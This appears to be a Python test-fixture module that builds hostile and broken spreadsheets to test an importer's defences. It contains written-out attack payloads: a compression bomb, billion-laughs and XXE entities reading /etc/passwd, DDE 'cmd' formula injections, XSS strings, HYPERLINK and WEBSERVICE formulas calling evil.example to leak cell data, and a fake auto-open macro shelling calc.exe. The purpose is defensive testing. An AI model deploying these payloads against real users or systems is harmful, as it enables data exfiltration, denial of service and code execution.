"""Generators of hostile and broken workbooks for the importer's tests.

Every generator writes one small file (the compression bomb is a few hundred KB on disk
and is written streaming, so the test itself never holds its unpacked size in memory).
"""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path
from typing import Any

from tests.conftest import write_workbook

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
XML_DECL = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

#: Text that must reach the records exactly as written, never as a formula or markup.
INJECTIONS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('x')</script>",
    '"><img src=x onerror=alert(1)>',
    "\tTab đầu dòng",
    "{{ 7*7 }} {% raw %}",
)


def _xml_text(text: str) -> str:
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    )


def column_letters(number: int) -> str:
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def cell_xml(row: int, col: int, value: Any) -> str:
    """One ``<c>`` element: a number, or an inline string (never a formula)."""
    ref = f"{column_letters(col)}{row}"
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    text = _xml_text(str(value))
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def rows_xml(rows: Sequence[Sequence[Any]], first_row: int = 1) -> str:
    out = []
    for r, row in enumerate(rows, start=first_row):
        cells = "".join(cell_xml(r, c, v) for c, v in enumerate(row, start=1) if v is not None)
        out.append(f'<row r="{r}">{cells}</row>')
    return "".join(out)


def sheet_xml(body: str, dimension: str | None = None, prolog: str = "") -> bytes:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        XML_DECL
        + prolog.encode()
        + f'<worksheet xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">{dim}'
        f"<sheetData>{body}</sheetData></worksheet>".encode()
    )


def _package(sheet_names: Sequence[str], shared_strings: bool, macro: bool) -> dict[str, bytes]:
    main_type = (
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        if macro
        else "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    )
    overrides = [
        f'<Override PartName="/xl/workbook.xml" ContentType="{main_type}"/>',
        *(
            f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            for i in range(1, len(sheet_names) + 1)
        ),
    ]
    if shared_strings:
        overrides.append(
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        )
    defaults = (
        '<Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
    )
    if macro:
        defaults += '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    content_types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + defaults
        + "".join(overrides)
        + "</Types>"
    )
    root_rels = (
        f'<Relationships xmlns="{PKG_REL_NS}"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>'
    )
    sheets = "".join(
        f'<sheet name="{_xml_text(name)}" sheetId="{i}" r:id="rId{i}"/>'
        for i, name in enumerate(sheet_names, start=1)
    )
    workbook = (
        f'<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><sheets>{sheets}</sheets></workbook>'
    )
    rels = [
        f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, len(sheet_names) + 1)
    ]
    n = len(sheet_names)
    if shared_strings:
        rels.append(
            f'<Relationship Id="rId{n + 1}" Type="{REL_NS}/sharedStrings" '
            'Target="sharedStrings.xml"/>'
        )
    if macro:
        rels.append(
            f'<Relationship Id="rId{n + 2}" Type="http://schemas.microsoft.com/office/2006/'
            'relationships/vbaProject" Target="vbaProject.bin"/>'
        )
    workbook_rels = f'<Relationships xmlns="{PKG_REL_NS}">{"".join(rels)}</Relationships>'
    return {
        "[Content_Types].xml": XML_DECL + content_types.encode(),
        "_rels/.rels": XML_DECL + root_rels.encode(),
        "xl/workbook.xml": XML_DECL + workbook.encode(),
        "xl/_rels/workbook.xml.rels": XML_DECL + workbook_rels.encode(),
    }


def raw_xlsx(
    path: Path,
    sheets: Sequence[tuple[str, bytes | Iterable[bytes]]],
    *,
    shared_strings: bytes | None = None,
    vba: bytes | None = None,
) -> Path:
    """An .xlsx/.xlsm written part by part; a sheet's XML may be an iterable of chunks."""
    parts = _package([name for name, _ in sheets], shared_strings is not None, vba is not None)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        for index, (_, xml) in enumerate(sheets, start=1):
            member = f"xl/worksheets/sheet{index}.xml"
            if isinstance(xml, bytes):
                archive.writestr(member, xml)
                continue
            with archive.open(member, "w", force_zip64=True) as handle:
                for chunk in xml:
                    handle.write(chunk)
        if shared_strings is not None:
            archive.writestr("xl/sharedStrings.xml", shared_strings)
        if vba is not None:
            archive.writestr("xl/vbaProject.bin", vba)
    return path


def simple_xlsx(path: Path, rows: Sequence[Sequence[Any]], name: str = "Sheet1") -> Path:
    return raw_xlsx(path, [(name, sheet_xml(rows_xml(rows)))])


# ------------------------------------------------------------------ size and shape attacks


def bomb_xlsx(path: Path, megabytes: int = 300) -> Path:
    """A valid-looking .xlsx whose sheet XML is ``megabytes`` MB of whitespace."""
    head = XML_DECL + f'<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode()
    tail = (rows_xml([["Mã chi bộ", "CB-BOM"]]) + "</sheetData></worksheet>").encode()

    def chunks() -> Iterator[bytes]:
        yield head
        block = b" " * (1 << 20)
        for _ in range(megabytes):
            yield block
        yield tail

    return raw_xlsx(path, [("Thông tin", chunks())])


def huge_range_xlsx(path: Path, *, declare: bool = True, far: str = "XFD1048576") -> Path:
    """A sheet whose used range spans a million rows by 16,384 columns, with two real cells."""
    body = f'<row r="1">{cell_xml(1, 1, "Mã chi bộ")}</row>'
    row = int("".join(ch for ch in far if ch.isdigit()))
    body += f'<row r="{row}"><c r="{far}"><v>1</v></c></row>'
    return raw_xlsx(path, [("Sheet1", sheet_xml(body, f"A1:{far}" if declare else None))])


def many_members_xlsx(path: Path, count: int = 12_000) -> Path:
    raw_xlsx(path, [("Sheet1", sheet_xml(rows_xml([["a"]])))])
    with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as archive:
        for index in range(count):
            archive.writestr(f"customXml/item{index}.xml", b"")
    return path


# ------------------------------------------------------------------ XML attacks

LAUGHS_DTD = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol;" if i == 1 else f"&lol{i - 1};") * 10}">' for i in range(1, 10)
    )
    + "]>"
)


def billion_laughs_xlsx(path: Path, where: str = "sheet") -> Path:
    """Entity expansion (a billion 'lol's) in the sheet XML or in sharedStrings.xml."""
    if where == "sheet":
        body = '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        return raw_xlsx(path, [("Sheet1", sheet_xml(body, prolog=LAUGHS_DTD))])
    shared = (
        XML_DECL
        + LAUGHS_DTD.replace("lolz", "sst").encode()
        + f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'.encode()
    )
    body = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    return raw_xlsx(path, [("Sheet1", sheet_xml(body))], shared_strings=shared)


def external_entity_xlsx(
    path: Path, target: str = "file:///etc/passwd", where: str = "sheet"
) -> Path:
    """An external entity (XXE) that a careless parser would read from disk or network."""
    dtd = f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "{target}">]>'
    if where == "sheet":
        body = (
            '<row r="1"><c r="A1" t="inlineStr"><is><t>Mã chi bộ</t></is></c>'
            '<c r="B1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
        )
        return raw_xlsx(path, [("Sheet1", sheet_xml(body, prolog=dtd))])
    shared = (
        XML_DECL
        + dtd.encode()
        + f'<sst xmlns="{MAIN_NS}" count="2" uniqueCount="2"><si><t>Mã chi bộ</t></si>'
        "<si><t>&xxe;</t></si></sst>".encode()
    )
    body = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
    return raw_xlsx(path, [("Sheet1", sheet_xml(body))], shared_strings=shared)


def inflated_shared_strings_xlsx(path: Path, unique: int = 4_000_000_000) -> Path:
    """sharedStrings.xml claiming ``unique`` strings: calamine reserves them all up front."""
    sst = f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="{unique}"><si><t>x</t></si></sst>'
    shared = XML_DECL + sst.encode()
    body = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    return raw_xlsx(path, [("Sheet1", sheet_xml(body))], shared_strings=shared)


# ------------------------------------------------------------------ formulas and macros


def formula_xlsx(path: Path) -> Path:
    """Row 2: formulas with cached values; row 3: formulas without a cached value."""
    body = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>b</t></is></c></row>'
        '<row r="2"><c r="A2"><f>1+1</f><v>2</v></c>'
        '<c r="B2" t="str"><f>"x"&amp;"y"</f><v>xy</v></c></row>'
        '<row r="3"><c r="A3"><f>SUM(A1:A2)</f></c>'
        '<c r="B3"><f>WEBSERVICE("http://evil.example/")</f><v></v></c></row>'
    )
    return raw_xlsx(path, [("Sheet1", sheet_xml(body)), ("Trống", sheet_xml(""))])


#: The start of an OLE2 (CFB) file: a vbaProject.bin is one. Never run, only stored.
FAKE_VBA = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    + b"\x00" * 504
    + b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\n'
    + b'Shell "calc.exe"\r\nEnd Sub\r\n'
)


def macro_xlsm(path: Path, rows: Sequence[Sequence[Any]], name: str = "Sheet1") -> Path:
    """A macro-enabled workbook with an (auto-open) vbaProject.bin."""
    return raw_xlsx(path, [(name, sheet_xml(rows_xml(rows)))], vba=FAKE_VBA)


def injection_xlsx(path: Path, sheets: Sequence[Any]) -> Path:
    """Like ``write_workbook``, but text starting with ``=`` stays text (openpyxl would
    otherwise store it as a formula)."""
    import openpyxl

    write_workbook(path, sheets)
    workbook = openpyxl.load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    workbook.save(path)
    return path


# ------------------------------------------------------------------ containers


def _cfb_entry(
    name: str, kind: int, start: int, size: int, child: int = -1, right: int = -1
) -> bytes:
    encoded = (name + "\x00").encode("utf-16-le")
    return (
        encoded.ljust(64, b"\x00")
        + struct.pack("<HBB", len(encoded), kind, 1)  # name length, type, black
        + struct.pack("<iii", -1, right, child)  # left, right, child
        + b"\x00" * 16  # CLSID
        + struct.pack("<I", 0)  # state bits
        + b"\x00" * 16  # created, modified
        + struct.pack("<iII", start, size, 0)
    )


def encrypted_ooxml(path: Path) -> Path:
    """A minimal OLE2 compound file as Office writes for a password-protected .xlsx:
    ``EncryptionInfo`` and ``EncryptedPackage`` streams (random-looking content)."""
    sector = 512
    stream = 4096  # at the mini-stream cutoff, so both live in ordinary sectors
    per_stream = stream // sector
    # sector 0: FAT, sector 1: directory, 2..9: EncryptionInfo, 10..17: EncryptedPackage
    fat = [0xFFFFFFFD, 0xFFFFFFFE]
    for first in (2, 2 + per_stream):
        fat += [first + i + 1 for i in range(per_stream - 1)] + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (sector // 4 - len(fat))
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\x00" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    )
    header += struct.pack("<I", 0) + struct.pack("<I", 0xFFFFFFFF) * 108
    directory = (
        _cfb_entry("Root Entry", 5, -2, 0, child=1)
        + _cfb_entry("EncryptionInfo", 2, 2, stream, right=2)
        + _cfb_entry("EncryptedPackage", 2, 2 + per_stream, stream)
        + b"\x00" * 128
    )
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>"
    package = struct.pack("<Q", 1234) + bytes((i * 73 + 41) % 256 for i in range(stream - 8))
    path.write_bytes(
        header
        + struct.pack(f"<{len(fat)}I", *fat)
        + directory
        + info.ljust(stream, b"\x00")
        + package
    )
    return path


def huge_dimensions_xls(path: Path, rows: int = 0xFFFFFFF0, cols: int = 0xFF) -> Path:
    """An .xls whose DIMENSIONS record claims ``rows`` x ``cols`` (calamine reserves that)."""
    write_workbook(path, [("Sheet1", [["Mã chi bộ", "CB-001"]])])
    data = bytearray(path.read_bytes())
    at = data.find(b"\x00\x02\x0e\x00")  # record 0x0200, 14 bytes (BIFF8)
    assert at > 0
    struct.pack_into("<IIHH", data, at + 4, 0, rows, 0, cols)
    path.write_bytes(bytes(data))
    return path


def unclosed_table_ods(path: Path, how: str = "cut") -> Path:
    """An .ods whose table is never closed, as calamine (0.36/0.37) sees it: the reader
    then loops forever at the end of content.xml. ``cut`` drops ``</table:table>``;
    ``swallowed`` hides it inside a broken end tag (``</tab</table:table>``)."""
    import io

    write_workbook(path, [("Sheet1", [["Mã chi bộ", "CB-001"]])])
    source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "content.xml":
                end = b"</table:table>"
                data = data.replace(end, b"" if how == "cut" else b"</tab" + end)
            target.writestr(info, data)
    return path


PNG_BYTES = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
    b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)
PDF_BYTES = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def truncated_copy(source: Path, target: Path, keep: float = 0.5) -> Path:
    data = source.read_bytes()
    target.write_bytes(data[: int(len(data) * keep)])
    return target
